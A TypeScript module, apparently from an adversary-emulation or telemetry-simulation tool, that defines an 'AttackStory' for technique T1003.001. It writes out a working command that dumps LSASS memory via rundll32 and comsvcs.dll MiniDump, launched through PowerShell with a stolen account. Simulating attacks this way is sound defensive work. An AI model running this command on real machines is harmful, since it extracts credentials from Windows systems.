import { rundll32 } from '../programs/proxies'
import { powershell } from '../programs/windows'
import { type AttackStory, onServer } from './story'

/** Credentials: the memory of lsass written to a file. */
export const memoryDump: AttackStory = {
  name: 'memory-dump',
  technique: 'T1003.001',
  quiet: false,
  days: 1,
  victims: 1,
  suits: onServer,
  run: (stage) => {
    const { day, campaign } = stage
    const shell = stage.act(
      'T1059.001',
      0,
      day.machine.service('wmi'),
      powershell,
      'powershell.exe -NoProfile -Command -',
      { account: stage.stolenAccount() },
    )
    stage.act(
      'T1003.001',
      6,
      shell,
      rundll32,
      `"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${4 * stage.random.between(150, 260)} C:\\Windows\\Temp\\${campaign.word(5)}.dmp full`,
    )
  },
}
